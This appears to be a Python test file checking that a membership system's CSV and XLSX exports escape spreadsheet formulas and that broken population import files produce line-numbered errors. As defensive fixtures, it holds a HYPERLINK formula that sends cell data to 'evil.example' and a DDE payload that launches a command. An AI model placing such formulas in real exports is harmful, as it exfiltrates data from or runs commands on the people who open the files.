"""Spreadsheet exports never carry a live formula; broken population files get a line-numbered message."""

import csv
import io

import pytest
from openpyxl import load_workbook

from khs.lib.spreadsheet import safe_cell
from membership.services import population_import_file
from membership.services.memberships import MembershipError
from tests import factories as f

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_beginning_like_a_formula_is_text(start):
    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


def test_numbers_and_ordinary_text_are_left_alone():
    assert [safe_cell(v) for v in (-2500, "-2500,00", "Lier", "", None)] == [-2500, "-2500,00", "Lier", "", None]


def test_the_member_list_exports_carry_no_formula(clerk_client, municipalities):
    person = f.make_person(HOSTILE, email="x@example.no")
    f.make_office(person, municipality=municipalities["gol"])
    csv_text = clerk_client.get("/members/export.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(csv_text), delimiter=";") for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    book = load_workbook(io.BytesIO(clerk_client.get("/members/export.xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [(c.value, c.data_type) for c in cells] == [("'" + HOSTILE, "s")]


def test_the_participants_csv_carries_no_formula(clerk_client, coop):
    from meetings.models import Invitee

    meeting = f.make_meeting(f.make_body(coop))
    invitee = f.make_invitee(meeting, f.make_person("A", email="a@example.no"))
    Invitee.objects.filter(pk=invitee.pk).update(response_note="@SUM(1+1)*cmd|' /C calc'!A0")
    text = clerk_client.get(f"/meetings/{meeting.pk}/attendance/participants.csv").content.decode("utf-8-sig")
    assert "'@SUM(1+1)" in text
    assert ";@SUM" not in text


@pytest.mark.parametrize(
    "data, line, words",
    [
        (b"kommunenummer,year,population\n0602,2017,1\x00\x00\n", 2, "NUL"),
        (bytes(range(256)) * 4, 1, "NUL"),
        (b"kommunenummer,year,population\n0602,2017," + b"9" * 5000 + b"\n", 2, "urimelig stort"),
        (b"kommunenummer,year,population\n0602,2017," + b"x" * 10_000_000 + b"\n", 2, "for lang"),
        (b"kommunenummer,year,population\n0602,2017,1099511627776\n", 2, "urimelig stort"),
    ],
    ids=["nul", "binary", "5000-digits", "10MB-line", "2^40"],
)
def test_a_broken_population_file_gets_a_line_numbered_message(db, data, line, words):
    with pytest.raises(MembershipError) as caught:
        population_import_file(data=data, source="SSB", actor=None, dry_run=True)
    [(got_line, message)] = caught.value.line_errors
    assert got_line == line and words in message


def test_cr_only_line_ends_are_read(db):
    f.make_municipality("0602", "Drammen")
    parsed, preview = population_import_file(
        data=b"kommunenummer,year,population\r0602,2017,68363\r", source="SSB", actor=None, dry_run=True
    )
    assert [(r.line, r.count) for r in parsed.rows] == [(2, 68363)]


def test_the_import_page_answers_a_binary_file_with_a_message(clerk_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("tall.csv", bytes(range(256)) * 4)
    response = clerk_client.post("/population/import/", {"file": upload, "source": "SSB"})
    assert response.status_code == 200
    assert response.context["line_errors"][0][0] == 1
